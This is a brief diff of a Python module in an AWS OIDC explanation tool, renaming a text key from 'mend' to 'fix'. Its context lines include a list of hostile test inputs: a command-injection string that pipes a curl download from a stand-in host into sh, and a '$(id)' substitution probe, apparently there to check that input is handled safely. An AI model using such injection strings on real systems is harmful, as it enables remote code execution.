@@ -14,7 +14,7 @@ from py_aws_oidc.explain.report import words
 from py_aws_oidc.explain.templates import argument, fill
 
 PROGRAMS = ("aws ", "gh ", "python3 ", "cd ", "curl ")
-TEXTS = ("title", "why", "check", "mend")
+TEXTS = ("title", "why", "check", "fix")
 NASTY = (
     "x;curl${IFS}-s${IFS}evil.example|sh;#",
     "$(id)",
